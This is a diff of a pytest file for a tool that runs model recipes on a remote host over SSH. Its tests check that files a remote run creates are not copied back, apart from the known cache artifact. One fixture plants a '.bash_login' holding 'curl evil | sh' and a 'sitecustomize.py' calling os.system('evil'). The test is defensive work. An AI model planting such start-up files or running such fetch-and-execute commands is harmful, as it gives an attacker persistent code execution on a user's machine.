@@ -32,6 +32,7 @@ needs_ssh = pytest.mark.skipif(shutil.which("ssh") is None, reason="no OpenSSH c
 RECIPE = """import hashlib
 import json
 import os
+import sys
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 LOCAL = {local!r}
@@ -45,10 +46,11 @@ def prepare(model, example_inputs=None):
         local = "hidden"
     with open(os.path.join(HERE, "recipe.cache.bin"), "rb") as f:
         artifact = hashlib.sha256(f.read()).hexdigest()
+    said = {{"file": __file__, "local": local, "artifact": artifact}}
     made = os.path.join(HERE, "made.json")
-    with open(made, "w") as f:
-        json.dump({{"file": __file__, "local": local, "artifact": artifact}}, f)
-    os.chmod(made, 0o640)
+    with open(made, "w") as f:  # a file the run is not known to make: it stays there
+        json.dump(said, f)
+    sys.stderr.write("SAID " + json.dumps(said) + "\\n")
     return model
 """
 
@@ -101,9 +103,8 @@ def test_a_recipe_and_inputs_here_run_there_from_copies_sent_along(
     server: Server, tmp_path: Path
 ) -> None:
     """The run reads the recipe, its artifact and the inputs from the guardian's folder (their
-    local paths cannot be opened there); the file the recipe makes beside itself comes back
-    beside the local recipe, with the mode it had there; a second run's copy does not replace
-    it (the first one wins)."""
+    local paths cannot be opened there). A file it makes there that a run is not known to make
+    does not come back: it is named in the record."""
     files = _files_here(tmp_path / "here")
     _run_there(server, tmp_path, files, tmp_path / "first.jsonl")
     data = read_run(tmp_path / "first.jsonl")
@@ -117,26 +118,76 @@ def test_a_recipe_and_inputs_here_run_there_from_copies_sent_along(
     assert Path(shipped["inputs_file"]).name == "inputs.pt"
     assert data.settings.recipe == str(files["recipe"])  # the record names the local file
 
-    made = files["recipe"].parent / "made.json"
-    first = json.loads(made.read_text())
-    assert first == {
+    said = (tmp_path / "first.stderr.txt").read_text().split("SAID ", 1)[1].splitlines()[0]
+    assert json.loads(said) == {
         "file": shipped["recipe"],
         "local": "hidden",
         "artifact": hashlib.sha256(files["artifact"].read_bytes()).hexdigest(),
     }
-    assert made.stat().st_mode & 0o777 == 0o640
-    assert server.left() == []
-
-    _run_there(server, tmp_path, files, tmp_path / "second.jsonl")
-    second = read_run(tmp_path / "second.jsonl").env["shipped"]
-    assert isinstance(second, dict) and second["recipe"] != shipped["recipe"]
-    assert json.loads(made.read_text()) == first
+    assert any("'made.json'" in e.title and "not copied" in e.title for e in data.events)
     assert sorted(p.name for p in files["recipe"].parent.iterdir()) == [
         "inputs.pt",
-        "made.json",
         "recipe.cache.bin",
         "recipe.py",
     ]
+    assert server.left() == []
+
+
+PLANTING = """import os
+import stat
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+
+def prepare(model, example_inputs=None):
+    planted = {
+        "recipe.cache.bin": b"the artifact",
+        ".bash_login": b"curl evil | sh",
+        "sitecustomize.py": b"import os; os.system('evil')",
+        "notes.txt": b"anything",
+    }
+    for name, data in planted.items():
+        path = os.path.join(HERE, name)
+        with open(path, "wb") as f:
+            f.write(data)
+        os.chmod(path, 0o755)
+    return model
+"""
+
+
+@needs_ssh
+def test_a_remote_model_plants_no_file_here(server: Server, tmp_path: Path) -> None:
+    """Only the file a run is known to make comes back (the recipe's cache artifact), as data
+    (0644); dotfiles, Python start-up files and anything else stay there, named."""
+    here = tmp_path / "here"
+    here.mkdir()
+    recipe = here / "recipe.py"
+    recipe.write_text(PLANTING)
+    record = tmp_path / "planted.jsonl"
+    result = warmscope(
+        "run",
+        "sample:trivial",
+        "--recipe",
+        str(recipe),
+        "--iters",
+        "2",
+        "--host",
+        HOST,
+        "--python",
+        PYTHON,
+        "--record",
+        str(record),
+        env=server.env(),
+        cwd=tmp_path,
+    )
+    assert result.code == 0, result.stderr
+    assert sorted(p.name for p in here.iterdir()) == ["recipe.cache.bin", "recipe.py"]
+    artifact = here / "recipe.cache.bin"
+    assert artifact.read_bytes() == b"the artifact"
+    assert artifact.stat().st_mode & 0o777 == 0o644
+    titles = " ".join(e.title for e in read_run(record).events)
+    for name in (".bash_login", "sitecustomize.py", "notes.txt"):
+        assert f"'{name}'" in titles and "not copied" in titles
     assert server.left() == []
 
 
